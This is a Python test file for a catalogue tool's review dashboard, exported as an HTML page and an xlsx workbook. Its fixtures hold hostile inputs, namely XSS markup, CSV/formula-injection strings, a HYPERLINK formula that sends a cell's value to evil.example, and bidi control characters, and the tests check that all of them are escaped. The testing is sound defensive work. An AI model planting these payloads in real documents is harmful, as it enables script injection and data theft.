"""The review dashboard as an internal page and as the summary workbook (`zwgk review --format
html / xlsx`): golden files, hostile text that stays text, reproducible bytes, English without
Chinese labels, the command's wiring, a real browser, and a site that never carries the page."""

from __future__ import annotations

import io
import re
import shutil
import zipfile
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from typer.testing import CliRunner

from conftest import ROOT, Golden
from office import printed_text
from xlsx_dump import dump_workbook
from zwgk_cli.build.builder import build
from zwgk_cli.check.pipeline import check_catalogue
from zwgk_cli.cli.app import app
from zwgk_cli.core.diagnostics import Lang
from zwgk_cli.review.dashboard import Dashboard, build_dashboard
from zwgk_cli.review.page import dashboard_html
from zwgk_cli.review.workbook import dashboard_workbook

SHIPPED = ROOT / "catalogues"
GOLDEN = ROOT / "tests" / "golden" / "review"
AS_OF = date(2020, 10, 12)
CJK = re.compile(r"[\u3000-\u303f\u3400-\u9fff\uff00-\uffef]")

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(2)>"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
FORMULAS = [LINK, "+1+1", "-2+3", "@SUM(A1:A2)"]
HOSTILE_RECORD = """\
domain: 安全生产
stages:
  - stage: 部门审核
    date: 2020-09-18
    by: "@区应急局"
    result: 退回修改
    note: "<img src=x onerror=alert(2)> 按\\u202e条例改写"
opinions:
  - item: aqsc-001
    field: time_limit
    date: 2020-09-18
    by: "-2+3"
    text: "<script>alert(1)</script>"
  - date: 2020-09-18
    by: 区政务办
    text: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
  - date: 2020-09-19
    by: 区政务办
    text: "+1+1"
    status: 不采纳
    reason: "@SUM(A1:A2)"
  - date: 2020-09-19
    by: 区政务办
    text: "响铃\\a 反向\\u202e"
"""


def dashboard(folder: Path = SHIPPED, as_of: date = AS_OF) -> Dashboard:
    return build_dashboard(check_catalogue(folder), as_of)


@pytest.fixture(scope="module")
def shipped() -> Dashboard:
    return dashboard()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped catalogue with a review record of 安全生产 full of markup and formulas."""
    folder = tmp_path_factory.mktemp("hostile") / "catalogues"
    shutil.copytree(SHIPPED, folder)
    (folder / "reviews").mkdir(exist_ok=True)
    (folder / "reviews" / "aqsc.yaml").write_text(HOSTILE_RECORD, encoding="utf-8")
    return folder


# ---- golden files ----


def test_page_golden(golden: Golden, shipped: Dashboard) -> None:
    golden(GOLDEN / "dashboard.html", dashboard_html(shipped, "zh"))


def test_workbook_golden(golden: Golden, shipped: Dashboard) -> None:
    golden(GOLDEN / "dashboard.xlsx.txt", dump_workbook(dashboard_workbook(shipped, "zh")))


# ---- the page ----


def test_page_is_self_contained_internal_and_dated(shipped: Dashboard) -> None:
    page = dashboard_html(shipped, "zh")
    assert '<html lang="zh-CN">' in page
    assert '<meta name="robots" content="noindex">' in page
    assert '<time datetime="2020-10-12">截至 2020年10月12日</time>' in page
    assert "<script" not in page
    assert re.search(r"""\b(?:src|href)\s*=\s*["'](?!#)""", page) is None  # only links within the page
    assert "@import" not in page
    assert "url(" not in page
    assert "@page { size: A4 landscape" in page
    assert page.count("<caption>") >= 3
    assert '<th scope="col">逾期天数</th>' in page
    for row in shipped.rows:
        assert f"<code>{row.fingerprint}</code>" in page


def test_workbook_sheets_dates_and_numbers(shipped: Dashboard) -> None:
    book = load_workbook(io.BytesIO(dashboard_workbook(shipped, "zh")))
    assert book.sheetnames == ["审核进度", "审查意见", "评分", "审核环节"]
    progress = book["审核进度"]
    assert "截至 2020年10月12日" in progress["A1"].value
    assert progress.freeze_panes == "A3"
    assert progress.auto_filter.ref == f"A2:K{2 + len(shipped.rows)}"
    assert progress.page_setup.orientation == "landscape"
    assert progress.print_title_rows == "$2:$2"
    heads = [cell.value for cell in progress[2]]
    assert heads[6] == "逾期天数"
    for index, row in enumerate(shipped.rows, start=3):
        late = progress.cell(row=index, column=7)
        assert late.value == row.overdue_days
        assert late.data_type == "n"
        assert (late.fill.fill_type == "solid") == row.overdue
    coverage = progress.cell(row=3, column=9)
    assert coverage.data_type == "n"
    assert coverage.number_format == "0.0%"
    stages = book["审核环节"]
    assert stages.cell(row=3, column=4).is_date
    assert stages.cell(row=3, column=4).value.date() == shipped.stages[0].due
    assert book.properties.created.date() == AS_OF
    assert book.properties.modified.date() == AS_OF


def test_scores_and_a_domain_without_a_file(tmp_path: Path) -> None:
    from test_review import scored_case

    board = dashboard(scored_case(tmp_path / "scored"))
    page = dashboard_html(board, "zh")
    assert '<td class="num">50.0%</td>' in page  # 依据规范, 时限合规: one item of two flagged
    assert '<td class="num">82.5%</td>' in page
    scores = load_workbook(io.BytesIO(dashboard_workbook(board, "zh")))["评分"]
    row = next(r for r in scores.iter_rows(min_row=3) if r[0].value == "社会救助")
    assert [cell.value for cell in row[3:]] == [1, 0.5, 0.5, 1, 1, 1, 0.825]
    assert row[-1].number_format == "0.0%"
    mean = next(r for r in scores.iter_rows(min_row=3) if r[0].value == "平均")
    assert mean[-1].value == pytest.approx((0.825 + 1) / 2, abs=1e-4)

    folder = tmp_path / "missing"
    shutil.copytree(SHIPPED, folder)
    (folder / "ssgl.yaml").unlink()
    (folder / "reviews" / "ssgl.yaml").unlink()
    board = dashboard(folder)
    page = dashboard_html(board, "zh")
    assert "✖ </span>未编制" in page
    progress = load_workbook(io.BytesIO(dashboard_workbook(board, "zh")))["审核进度"]
    last = [cell.value for cell in progress[2 + len(board.rows)]]
    assert last[1:4] == ["税收管理", "—", "未编制"]
    assert last[8:11] == [0, "—", "—"]


# ---- hostile text ----


def test_hostile_text_stays_text_in_the_page(hostile: Path) -> None:
    page = dashboard_html(dashboard(hostile), "zh")
    assert "<script" not in page
    assert "<img" not in page
    assert str(escape(SCRIPT)) in page
    assert str(escape(IMAGE)) in page
    assert str(escape(LINK)) in page
    assert "\u202e" not in page
    assert "\a" not in page
    assert "响铃[U+0007] 反向[U+202E]" in page  # an opinion, written out by the template
    assert "按\\u202e条例改写" in page  # a note quoted in a message, escaped as messages do


def test_hostile_text_stays_text_in_the_workbook(hostile: Path) -> None:
    data = dashboard_workbook(dashboard(hostile), "zh")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml, name
                assert b"<f " not in xml, name
    book = load_workbook(io.BytesIO(data))
    values: dict[str, Any] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values[cell.value] = cell
    for text in (SCRIPT, *FORMULAS):
        assert text in values, text
        assert values[text].data_type == "s"
    assert "响铃[U+0007] 反向[U+202E]" in values


def test_page_is_valid_html(tmp_path: Path, hostile: Path) -> None:
    from test_html_validity import vnu_problems

    board = dashboard(hostile)
    pages = []
    languages: list[Lang] = ["zh", "en"]
    for lang in languages:
        path = tmp_path / f"review-{lang}.html"
        path.write_text(dashboard_html(board, lang), encoding="utf-8")
        pages.append(path)
    assert vnu_problems(pages) == []


# ---- reproducible ----


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_same_dashboard_same_bytes(hostile: Path, lang: Lang) -> None:
    first, second = dashboard(hostile), dashboard(hostile)
    assert dashboard_html(first, lang) == dashboard_html(second, lang)
    data = dashboard_workbook(first, lang)
    assert data == dashboard_workbook(second, lang)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2020, 10, 12, 0, 0, 0)}


# ---- English ----


class _Headings(HTMLParser):
    """The texts of the page's headings, captions and column heads."""

    TAGS = ("h1", "h2", "h3", "caption", "title")

    def __init__(self) -> None:
        super().__init__()
        self.texts: list[str] = []
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.TAGS or (tag == "th" and ("scope", "col") in attrs):
            self._open.append(tag)
            self.texts.append("")

    def handle_endtag(self, tag: str) -> None:
        if self._open and self._open[-1] == tag:
            self._open.pop()

    def handle_data(self, data: str) -> None:
        if self._open:
            self.texts[-1] += data


def test_english_has_no_chinese_labels(shipped: Dashboard, hostile: Path) -> None:
    for board in (shipped, dashboard(hostile)):
        data = sorted(
            {board.title, board.office, *(r.domain for r in board.rows), *(r.lead for r in board.rows)},
            key=len,
            reverse=True,
        )

        def labels(text: str, data: list[str] = data) -> str:
            for value in data:
                text = text.replace(value, "")
            return text

        page = dashboard_html(board, "en")
        assert '<html lang="en">' in page
        parser = _Headings()
        parser.feed(page)
        assert len(parser.texts) > 20
        leftovers = [text for text in parser.texts if CJK.search(labels(text))]
        assert leftovers == []
        book = load_workbook(io.BytesIO(dashboard_workbook(board, "en")))
        for sheet in book.worksheets:
            assert not CJK.search(sheet.title)
            assert not CJK.search(labels(sheet["A1"].value)), sheet["A1"].value
            for cell in sheet[2]:
                assert cell.value is None or not CJK.search(cell.value), cell.value
        assert not CJK.search(book.worksheets[0]["D3"].value)


# ---- the command ----

runner = CliRunner()


@pytest.mark.parametrize("output_format", ["html", "xlsx"])
def test_command_writes_the_file(tmp_path: Path, shipped: Dashboard, output_format: str) -> None:
    target = tmp_path / f"review.{output_format}"
    args = ["review", str(SHIPPED), "--as-of", "2020-10-12", "--format", output_format]
    done = runner.invoke(app, [*args, "-o", str(target)])
    assert done.exit_code == 0, done.output
    assert "2020年10月12日" in done.stderr
    if output_format == "html":
        assert target.read_text(encoding="utf-8") == dashboard_html(shipped, "zh")
    else:
        assert target.read_bytes() == dashboard_workbook(shipped, "zh")
    english = runner.invoke(app, [*args, "-o", str(target), "--lang", "en"])
    assert english.exit_code == 0, english.output
    missing = runner.invoke(app, args)
    assert missing.exit_code == 2
    assert "-o" in missing.output


# ---- never in the published site ----


def test_the_site_never_carries_the_page(tmp_path: Path, hostile: Path) -> None:
    out = tmp_path / "dist"
    build(hostile, out)
    files = [path for path in out.rglob("*") if path.is_file()]
    assert files
    assert not any("review" in path.relative_to(out).as_posix() for path in files)
    shipped_assets = {
        p.relative_to(ROOT / "templates").as_posix()
        for p in (ROOT / "templates" / "assets").rglob("*")
        if p.is_file()
    }
    assert {p.relative_to(out).as_posix() for p in (out / "assets").rglob("*")} <= shipped_assets | {
        "assets/search-index.js"
    }
    for path in files:
        data = path.read_bytes()
        assert b"noindex" not in data, path
        assert b"zwgk review" not in data, path
        assert SCRIPT.encode() not in data, path


# ---- a real office suite and a real browser ----


def test_libreoffice_opens_and_prints_the_workbook(tmp_path: Path, shipped: Dashboard) -> None:
    source = tmp_path / "review.xlsx"
    source.write_bytes(dashboard_workbook(shipped, "zh"))
    text = printed_text(source, "libreoffice-calc-nogui")
    compact = "".join(text.split())
    assert "审核进度：重庆市渝北区基层政务公开标准目录（截至2020年10月12日）" in compact
    assert "第1页，共" in compact
    for row in shipped.rows:
        assert row.domain in compact


def test_page_in_a_browser(tmp_path: Path, shipped: Dashboard) -> None:
    from test_browser import CHROMIUM_FLAGS, chromium_path

    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("playwright is not installed (pip install -e '.[test]')")
    executable = chromium_path()
    if executable is None:
        pytest.skip("no Chromium: install Debian's chromium package (apt-get install chromium)")
    path = tmp_path / "review.html"
    path.write_text(dashboard_html(shipped, "zh"), encoding="utf-8")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=CHROMIUM_FLAGS)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        problems: list[str] = []
        page.on("console", lambda m: problems.append(m.text) if m.type in ("error", "warning") else None)
        page.on("pageerror", lambda e: problems.append(str(e)))
        page.on("request", lambda r: None if r.url.startswith("file://") else problems.append(r.url))
        page.goto(path.as_uri())
        table = page.locator("table.progress")
        assert table.is_visible()
        assert table.locator("tbody tr").count() == len(shipped.rows)
        late = sum(1 for row in shipped.rows if row.overdue)
        assert late > 0
        markers = page.locator("table.progress .overdue-marker")
        assert markers.count() == late
        assert markers.first.is_visible()
        assert markers.first.inner_text() == "逾期"
        assert "截至 2020年10月12日" in page.locator(".as-of").inner_text()
        page.emulate_media(media="print")
        assert table.locator("thead").evaluate("e => getComputedStyle(e).display") == "table-header-group"
        assert page.pdf(prefer_css_page_size=True).startswith(b"%PDF")
        page.emulate_media(media="screen")
        from test_browser import axe_violations

        assert axe_violations(page) == []
        browser.close()
    assert problems == []
